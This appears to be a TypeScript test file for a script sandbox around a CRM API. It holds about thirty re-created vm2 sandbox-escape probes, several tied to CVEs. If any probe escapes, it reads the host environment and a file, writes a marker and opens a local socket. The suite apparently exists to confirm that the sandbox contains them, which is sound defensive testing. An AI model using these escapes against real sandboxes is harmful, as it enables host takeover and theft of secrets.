import type { HostileScript } from "./hostile-script";

/**
 * `R(F)`: whether a function's constructor is that of the host, where `process` is. Whoever gets there does the worst: tells
 * the environment and a file, writes one, and calls a server.
 */
const PROBE = `
Error.stackTraceLimit = 1;
const found = [];
const { file, mark, port } = input;
const worst = (p) => {
  const need = (name) => (p.getBuiltinModule ?? p.mainModule.require)(name);
  for (const act of [() => p.env, () => need("fs").readFileSync(file, "utf8"), () => need("fs").writeFileSync(mark, ""), () => need("net").connect(port, "127.0.0.1")])
    try { found.push(JSON.stringify(act())) } catch {}
};
const R = (F) => { try { const p = F("return process")(); if (p && p.pid) { found.push("ESCAPED"); worst(p) } } catch {} };
const deep = (value) => { try { R(value.constructor.constructor) } catch {} try { R(value.constructor) } catch {} };
const overflow = () => { const go = () => { new Error().stack; go() }; go() };
`;
const REPORT = `\nawait sleep(1); return found.join() || "inside";`;

const wayOut = (name: string, code: string): HostileScript => ({
  name,
  code: `${PROBE}${code}${REPORT}`,
  ends: ["succeeded", "failed"],
  result: "inside",
});

/** The ways that published escapes of vm2 took, written anew; the advisory that told of each first, where there is one. */
export const languageEscapes: HostileScript[] = [
  wayOut(
    "constructors of all that it was handed",
    "for (const value of [this, globalThis, crm, crm.contacts, crm.contacts.get, console, console.log, log, sleep, input, Promise, Error, Symbol]) deep(value);",
  ),
  wayOut("constructors of answers", "deep(await crm.contacts.get(input.own)); deep(crm.contacts.list());"),
  wayOut(
    "constructors of refusals",
    "try { await crm.contacts.get('1') } catch (e) { deep(e); for (const v of Object.values(e)) deep(v) }",
  ),
  wayOut(
    "constructors of errors of the engine",
    "try { null.x } catch (e) { deep(e) } try { overflow() } catch (e) { deep(e) }",
  ),
  wayOut(
    "prepareStackTrace and its frames (CVE-2023-29017)",
    "Error.prepareStackTrace = (e, frames) => { deep(frames); for (const f of frames) { deep(f); try { deep(f.getThis()) } catch {} try { deep(f.getFunction()) } catch {} } return frames }; deep(new Error().stack); await (async () => { try { null.x } catch (e) { deep(e.stack) } })();",
  ),
  wayOut(
    "an Error of its own (CVE-2022-36067)",
    "const E = Error; globalThis.Error = {}; globalThis.Error.prepareStackTrace = (_, frames) => frames.map((f) => { try { deep(f.getThis()) } catch {} }); try { const { stack } = new E() } catch (e) { deep(e) } globalThis.Error = E;",
  ),
  wayOut(
    "the name of the catch that is watched (CVE-2023-29199)",
    "globalThis.VM2_INTERNAL_TMPNAME = {}; try { overflow() } catch (VM2_TMP) { deep(VM2_TMP) }",
  ),
  wayOut(
    "a proxy that throws while it is looked at (CVE-2023-30547)",
    "const p = new Proxy({}, { getPrototypeOf() { overflow() } }); try { throw p } catch ({ constructor: c }) { try { R(c); R(c.constructor) } catch {} }",
  ),
  wayOut(
    "a name that is a proxy (CVE-2023-32314)",
    "const e = new Error(); e.name = { toString: new Proxy(() => '', { apply(target, self, args) { deep(args); deep(self) ; return '' } }) }; try { e.stack } catch (x) { deep(x) }",
  ),
  wayOut(
    "a symbol as a name (CVE-2026-22709)",
    "const e = new Error(); e.name = Symbol(); const f = async () => e.stack; await f().catch((x) => deep(x)); await new Promise((r) => f().then(r, (x) => { deep(x); r() }));",
  ),
  wayOut(
    "species of promises (CVE-2023-37466)",
    "const p = (async () => overflow())(); p.constructor = { [Symbol.species]: class { constructor(run) { run((v) => v, (e) => deep(e)) } } }; try { p.then() } catch (e) { deep(e) } p.catch(() => {});",
  ),
  wayOut(
    "species of a subclass",
    "class P extends Promise { static get [Symbol.species]() { return function (run) { run(deep, deep) } } } try { new P((r, j) => { try { overflow() } catch (e) { j(e) } }).then(() => {}) } catch (e) { deep(e) }",
  ),
  wayOut(
    "finally and its species",
    "class P extends Promise {} P[Symbol.species] = function (run) { run(deep, deep) }; try { P.reject(1).finally(() => {}) } catch (e) { deep(e) }",
  ),
  wayOut(
    "a generator closed by a thenable",
    "async function* g() { yield* { [Symbol.asyncIterator]: () => ({ next: (v) => ({ value: v, done: false }), throw: (v) => ({ value: v, done: false }) }) } } const i = g(); await i.next(); try { deep((await i.return({ then(r) { overflow(); r() } })).value) } catch (e) { deep(e) }",
  ),
  wayOut(
    "custom inspection (CVE-2023-37903)",
    "const s = Symbol.for('nodejs.util.inspect.custom'); const o = { [s]: (depth, options, inspect) => { deep(inspect); deep(options) } }; console.log(o); try { crm.contacts.get(o) } catch {} ",
  ),
  wayOut(
    "import and its promise (CVE-2021-23449)",
    "try { const p = import('./x.js'); deep(p); p.catch((e) => deep(e)) } catch (e) { deep(e) }",
  ),
  wayOut(
    "patched WeakMap and Reflect",
    "WeakMap.prototype.get = function (k) { deep(this); deep(k) }; WeakMap.prototype.set = function (k, v) { deep(k); deep(v); return this }; Reflect.apply = (f, t, a) => { deep(f); deep(a) }; deep(crm.contacts.get); console.log({});",
  ),
  wayOut(
    "patched prototypes of Object",
    "for (const name of ['get', 'set', 'has', 'apply', 'value', 'constructor']) Object.defineProperty(Object.prototype, name, { get() { deep(this); return undefined }, set(v) { deep(v) }, configurable: true }); try { await crm.contacts.get(input.own) } catch (e) { deep(e) }",
  ),
  wayOut(
    "patched prototypes of Array and Function",
    "Array.prototype.map = function (f) { deep(this); deep(f); return [] }; Function.prototype.call = function (...a) { deep(this); a.forEach(deep) }; Function.prototype.apply = function (...a) { deep(this) }; try { console.log(1); crm.contacts.get(input.own) } catch (e) { deep(e) }",
  ),
  wayOut(
    "setters on the way of errors",
    "Object.defineProperty(Error.prototype, 'stack', { set(v) { deep(this); deep(v) }, get() { deep(this) } }); try { crm.contacts.get(5) } catch (e) { deep(e) }",
  ),
  wayOut(
    "getters of __proto__",
    "const up = Object.prototype.__lookupGetter__('__proto__'); let v = crm.contacts.get; for (let i = 0; i < 5 && v; i++) { deep(v); v = up.call(v) }",
  ),
  wayOut(
    "descriptors of what it was handed",
    "for (const o of [crm, console, globalThis]) for (const d of Object.values(Object.getOwnPropertyDescriptors(o))) { deep(d); try { deep(d.value); deep(d.get) } catch {} }",
  ),
  wayOut(
    "callers and arguments of functions",
    "function f() { try { deep(f.caller) } catch {} try { deep(arguments.callee.caller) } catch {} } f(); [1].forEach(f); await crm.contacts.get(input.own); f();",
  ),
  wayOut(
    "hasInstance and toPrimitive",
    "const o = { [Symbol.toPrimitive](h) { deep(this); return 1 }, [Symbol.hasInstance](v) { deep(v) } }; try { sleep(o) } catch (e) { deep(e) } try { 1 instanceof o } catch (e) { deep(e) } console.log(o);",
  ),
  wayOut(
    "async stacks of overflows",
    "const f = async () => { await 0; overflow() }; try { await f() } catch (e) { deep(e) }",
  ),
  wayOut(
    "what became of many that overflowed",
    "const f = async () => { await 0; overflow() }; await Promise.allSettled([f()]).then((all) => all.forEach(({ reason }) => deep(reason)));",
  ),
  wayOut(
    "the one error of many overflows",
    "const f = async () => { await 0; overflow() }; await Promise.any([f()]).catch((e) => { deep(e); deep(e.errors[0]) });",
  ),
  wayOut(
    "suppressed and aggregate errors",
    "try { throw new AggregateError([new Proxy({}, { get(t, k) { overflow() } })]) } catch (e) { deep(e); try { deep(e.errors[0]) } catch (x) { deep(x) } }",
  ),
  wayOut(
    "revoked proxies",
    "const { proxy, revoke } = Proxy.revocable(function () {}, {}); revoke(); try { console.log(proxy) } catch (e) { deep(e) } try { await proxy } catch (e) { deep(e) } try { proxy() } catch (e) { deep(e) }",
  ),
  wayOut(
    "tagged templates and classes",
    "const t = (s) => s; deep(t``); deep(t`x`.raw); class A extends null {} try { new A() } catch (e) { deep(e) } try { Reflect.construct(crm.contacts.get, [], Object) } catch (e) { deep(e) }",
  ),
];
